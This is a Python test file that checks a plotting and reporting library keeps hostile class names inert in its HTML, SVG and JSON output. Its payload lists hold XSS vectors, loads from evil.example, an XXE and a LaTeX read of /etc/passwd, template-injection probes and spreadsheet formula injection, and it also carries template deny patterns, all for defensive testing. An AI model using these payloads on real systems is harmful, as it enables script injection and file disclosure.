"""Names of strangers in reports and figures: nothing of them may become markup, mathematics or a template."""

import json
import re
import xml.etree.ElementTree as ET
from html.parser import HTMLParser
from pathlib import Path

import numpy as np
import pytest

import rumbo.plots
from rumbo.core.messages import shown
from rumbo.plots import (
    class_shares,
    confusion_matrix,
    contact_sheet,
    predicted_against_true,
    report_json,
    to_png,
    to_svg,
    training_curves,
)
from rumbo.plots.report import report_html
from rumbo.plots.style import MAX_LETTERS, SVG_TAGS, plain

SCRIPT = "alert(1)"
ELEMENTS = [
    f"<script>{SCRIPT}</script>",
    f"<ScRiPt>{SCRIPT}</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    f"<img src=x onerror={SCRIPT}>",
    f"<img/src=x/onerror={SCRIPT}>",
    f"<svg onload={SCRIPT}>",
    f"<svg><script>{SCRIPT}</script></svg>",
    f"<svg><a xlink:href=javascript:{SCRIPT}><text>x</text></a></svg>",
    f"<svg><animate onbegin={SCRIPT} attributeName=x dur=1s>",
    f"<svg><set onbegin={SCRIPT}>",
    f"<svg><foreignObject><body onload={SCRIPT}>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={SCRIPT}>",
    f"<body onload={SCRIPT}>",
    f"<iframe src=javascript:{SCRIPT}></iframe>",
    f"<iframe srcdoc='<script>{SCRIPT}</script>'>",
    f"<object data=javascript:{SCRIPT}>",
    f"<embed src=javascript:{SCRIPT}>",
    f"<a href=javascript:{SCRIPT}>x</a>",
    f"<form action=javascript:{SCRIPT}><button>x</button></form>",
    f"<input autofocus onfocus={SCRIPT}>",
    f"<details open ontoggle={SCRIPT}>",
    f"<video><source onerror={SCRIPT}></video>",
    f"<marquee onstart={SCRIPT}>x</marquee>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<!--><script>alert(1)</script-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
]
CLOSERS = [
    "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</td></tr></table><script>alert(1)</script>",
    "</text></g></svg><script>alert(1)</script>",
    "</pre><img src=x onerror=alert(1)>",
    "--><img src=x onerror=alert(1)>",
    "]]><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    "` onmouseover=`alert(1)`",
    '" style="background:url(//evil.example)',
]
TEMPLATES = [
    "{{7*7}}",
    "{% for x in (1,2) %}x{% endfor %}",
    "{{ ''.__class__.__mro__ }}",
    "{{ config }}",
    "{# gone #}",
    "${7*7}",
    "<%= 7*7 %>",
    "{name}",
    "{0.__class__}",
    "%(name)s",
]
MATHEMATICS = [
    "$x^2$",
    r"$\frac{1}{2}$",
    r"$\notacommand{$",
    "$$",
    "$",
    r"\$5 and \$6",
    r"\$x$",
    r"$\input{/etc/passwd}$",
    r"a_b^c {d} \textbf{e}",
]
ENTITIES = [
    "&lt;script&gt;",
    "&#60;script&#62;",
    "&amp;",
    "&nbsp;&copy;",
    "javascript:alert(1)",
    "data:text/html,<b>x</b>",
]
CONTROLS = [
    "\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07",
    "\x9b31m",
    "a\x00b",
    "line one\nline two",
    "carriage\rreturn",
    "cat\u202egnp.exe",
    "\u2066isolate\u2069",
    "\u200fmark",
    "\u061cmark",
    "\u2028separator",
    "\udc80not utf-8",
    "tab\there",
]
FORMULAS = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", '=HYPERLINK("//evil.example")', "\t=1+1"]
LONG = ["a" * 300, "<b>" * 100, "名" * 300, "🐱" * 100, "ש" * 60]
PAYLOADS = [*ELEMENTS, *CLOSERS, *TEMPLATES, *MATHEMATICS, *ENTITIES, *CONTROLS, *FORMULAS, *LONG]
WRAPPED = [before + payload + after for before, after in (("photo ", ".png"), ("../", "/cat")) for payload in PAYLOADS]

HTML_NAMES = """html head meta title style body main header section p h1 h2 h3 dl div dt dd strong b br span ol ul li
    table thead tbody tr th td figure img details summary pre code"""
SVG_NAMES = (
    "xmlns id d style transform clip-path x y width height viewbox version href cx cy r preserveaspectratio rotate"
)
HTML_TAGS, SVG_ATTRIBUTES = set(HTML_NAMES.split()), set(SVG_NAMES.split())
HTML_ATTRIBUTES = {"lang", "charset", "http-equiv", "content", "name", "class", "src", "alt", "scope"}


class Page(HTMLParser):
    """Collects what a browser would see: elements with their attributes, and text."""

    def __init__(self, text: str):
        super().__init__(convert_charrefs=True)
        self.elements, self.texts, self.others = [], [], []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attributes):
        self.elements.append((tag, dict(attributes)))

    def handle_data(self, data):
        self.texts.append(data)

    def handle_comment(self, data):
        self.others.append(data)

    def handle_pi(self, data):
        self.others.append(data)

    def unknown_decl(self, data):
        self.others.append(data)


def assert_harmless(text: str) -> Page:
    page = Page(text)
    assert page.others == []
    svg_tags = {tag.lower() for tag in SVG_TAGS}
    for tag, attributes in page.elements:
        assert tag in svg_tags | HTML_TAGS
        assert set(attributes) <= (SVG_ATTRIBUTES if tag in svg_tags else HTML_ATTRIBUTES), (tag, attributes)
        for name, value in attributes.items():
            if name in ("src", "href"):
                assert re.fullmatch(r"#[\w-]+|data:image/png;base64,[A-Za-z0-9+/=\s]+", value), value
            if name in ("style", "clip-path"):
                assert "url(" not in re.sub(r"url\(#[\w-]+\)", "", value)
                assert "expression" not in value
    return page


def test_there_are_enough_payloads():
    assert len(set(PAYLOADS)) >= 60
    assert len(set(PAYLOADS + WRAPPED)) >= 200


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_text_fields_stay_text(make_report, payload):
    page = assert_harmless(report_html(make_report(payload, figures=False)))
    assert "".join(page.texts).count(shown(payload)) >= 25
    assert "49" not in page.texts


def drawn(names: list[str]) -> dict[str, str]:
    num_names = len(names)
    history = [
        {"epoch": 1, "train/loss": 1.0, f"dev/{names[0]}": 0.5},
        {"epoch": 2, "train/loss": 0.9, f"dev/{names[0]}": 0.6},
    ]
    picture = np.zeros((4, 4, 3), dtype=np.uint8)
    sheet = [{"picture": picture, "true": name, "predicted": name, "probability": 0.5} for name in names[:2]]
    figures = {
        "confusion": confusion_matrix(np.eye(num_names, dtype=int), names),
        "shares": class_shares({"train": dict.fromkeys(names, 2), names[-1]: dict.fromkeys(names, 1)}),
        "regression": predicted_against_true(np.arange(5.0), np.arange(5.0), name=names[0]),
        "curves": training_curves(history, metric=names[0]),
        "sheet": contact_sheet(sheet),
    }
    return {name: to_svg(figure, name=name) for name, figure in figures.items()}


def texts_of(svg: str) -> str:
    return "\n".join(
        "".join(element.itertext()) for element in ET.fromstring(svg).iter() if element.tag.endswith("text")
    )


def as_drawn(name: str, max_letters: int = MAX_LETTERS) -> str:
    return plain(name, max_letters).replace(r"\$", "$")


@pytest.mark.parametrize("start", range(0, len(PAYLOADS), 30))
def test_figures_show_names_literally(start):
    names = PAYLOADS[start : start + 30]
    svgs = drawn(names)
    for svg in svgs.values():
        assert_harmless(svg)
    shares = texts_of(svgs["shares"])
    for name in names:
        assert " ".join(as_drawn(name).split()) in " ".join(shares.split())
    assert as_drawn(names[0], 26) in texts_of(svgs["regression"])


@pytest.mark.parametrize("payload", ["$x^2$", r"\$x$", "a\nb", "<b>"])
def test_every_text_of_every_figure_is_literal(payload):
    for svg in drawn([payload, "other"]).values():
        assert as_drawn(payload, 14)[:6] in texts_of(svg)


def test_a_picture_of_hostile_names_can_be_drawn():
    names = [*MATHEMATICS, *LONG]
    assert to_png(confusion_matrix(np.eye(len(names), dtype=int), names)).startswith(b"\x89PNG")


def test_json_keeps_names_exactly(make_report):
    for payload in PAYLOADS:
        found = json.loads(json.dumps(report_json(make_report(payload)), allow_nan=False))
        assert found["title"] == found["wrong"][0]["id"] == found["confusion"]["classes"][0] == payload
        assert "picture" not in found["wrong"][0]


def test_templates_keep_the_rules():
    templates = sorted((Path(rumbo.plots.__file__).parent / "templates").iterdir())
    assert templates
    for path in templates:
        source = path.read_text(encoding="utf-8")
        for forbidden in (
            r"\|\s*safe",
            r"autoescape",
            r"<script",
            r"\bon\w+\s*=",
            r"javascript:",
            r"tojson",
            r"Markup",
        ):
            # The page to look at labels has the one script of ours, a constant that is let in by its hash.
            found = source.replace("<script>{{ script }}</script>", "") if path.name == "labels.html" else source
            assert not re.search(forbidden, found, re.IGNORECASE), (path.name, forbidden)
        for attribute in ("href", "style", "id"):
            assert not re.search(rf"\b{attribute}\s*=\s*[\"']?[^\"'>]*{{{{", source), (path.name, attribute)
        assert not re.search(r"\w=\s*{{", source), "an attribute without quotes"


def test_only_our_own_drawings_are_trusted():
    folder = Path(rumbo.plots.__file__).parent
    sources = {path: path.read_text(encoding="utf-8") for path in folder.glob("*.py")}
    calls = [
        (path.name, line.strip()) for path, text in sources.items() for line in text.splitlines() if "Markup(" in line
    ]
    assert sorted(calls) == [
        ("label_page.py", "script=Markup(script),"),  # a file of ours, read as it is
        ("page.py", "return Markup(to_svg(figure, name=name))"),
    ]


def test_the_policy_forbids_everything_but_inline_styles_and_pictures(make_report):
    page = Page(report_html(make_report()))
    metas = [attributes for tag, attributes in page.elements if attributes.get("http-equiv")]
    assert metas == [
        {
            "http-equiv": "Content-Security-Policy",
            "content": "default-src 'none'; style-src 'unsafe-inline'; img-src data:",
        }
    ]
    tags = [tag for tag, _ in page.elements]
    assert tags.index("meta") < tags.index("style")


@pytest.mark.slow
@pytest.mark.parametrize("payload", PAYLOADS + WRAPPED, ids=range(3 * len(PAYLOADS)))
def test_all_payloads_in_all_outputs(make_report, payload):
    report = make_report(payload)
    page = assert_harmless(report_html(report))
    assert shown(payload) in "".join(page.texts)
    json.dumps(report_json(report), allow_nan=False)


@pytest.mark.slow
@pytest.mark.parametrize("start", range(0, len(WRAPPED), 30))
def test_wrapped_payloads_in_all_figures(start):
    for svg in drawn(WRAPPED[start : start + 30]).values():
        assert_harmless(svg)
